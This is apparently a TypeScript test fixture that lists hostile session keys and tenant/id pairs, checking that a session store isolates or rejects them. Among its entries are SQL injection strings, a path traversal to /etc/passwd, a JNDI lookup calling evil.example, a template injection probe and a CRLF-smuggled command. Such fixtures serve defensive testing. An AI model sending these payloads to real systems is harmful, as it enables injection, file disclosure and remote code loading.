import { type Case, made, one } from "./case.ts";

/** What comes of a key: a session of its own, or a `TypeError` before anything is read. */
export type KeyOutcome = "own" | "reject";

/** C7: ids of sessions. Each that is accepted is a session of its own; none reads, changes or lists another. */
export const hostileKeys: readonly Case<KeyOutcome>[] = [
  one(165, "SQL", "' OR 1=1 --", "own"),
  one(166, "SQL behind a parenthesis", "x') OR '1'='1", "own"),
  one(167, "a percent sign", "%", "own"),
  one(168, "an underscore", "_", "own"),
  one(169, "a backslash", "\\", "own"),
  one(170, "an asterisk", "*", "own"),
  one(171, "a question mark", "?", "own"),
  one(172, "a class of characters", "[a-z]", "own"),
  one(173, "a separator of keys", "a:b", "own"),
  one(174, "a path upwards", "../../etc/passwd", "own"),
  one(175, "a slash", "a/b", "own"),
  one(175, "a backslash in a path", "a\\b", "own"),
  one(175, "the name of a device", "CON", "own"),
  one(175, "a trailing dot", "a.", "own"),
  one(176, "__proto__", "__proto__", "own"),
  one(177, "an empty text", "", "reject"),
  made(178, "10 000 characters", () => "x".repeat(10_000), "own"),
  one(179, "NUL", "a\u0000b", "own"),
  one(180, "a line break", "a\nb", "own"),
  one(181, "an operator of a query", { $ne: null }, "reject"),
  one(182, "a list", ["a"], "reject"),
  one(183, "a number", 1, "reject"),
  one(183, "the same number as a text", "1", "own"),
  one(184, "a small letter", "k", "own"),
  one(184, "the capital of it", "K", "own"),
  one(184, "the Kelvin sign", "\u212a", "own"),
  one(184, "a composed letter", "\u00e9", "own"),
  one(184, "the same letter, decomposed", "e\u0301", "own"),
  one(186, "a line of another command", "a\r\nDEL b\r\n", "own"),
  one(187, "a lookup", "${jndi:ldap://evil.example/a}", "own"),
  one(187, "a template", "{{7*7}}", "own"),
  one(undefined, "a lone surrogate", "a\ud83d", "reject"),
];

/** C7: keys with a tenant that an encoding may mix up: all are different sessions. */
export const hostileTenantKeys: readonly { readonly tenant?: string; readonly id: string }[] = [
  { tenant: "a", id: "b:c" },
  { tenant: "a:b", id: "c" },
  { id: "a:b:c" },
  { tenant: "a", id: "b/c" },
  { tenant: "a/b", id: "c" },
  { tenant: "", id: "a" },
  { id: "a" },
  { tenant: "a", id: "a" },
  { id: '["a","a"]' },
  { tenant: "%", id: "_" },
  { tenant: "a\u0000b", id: "c" },
  { tenant: "a", id: "b\u0000c" },
];
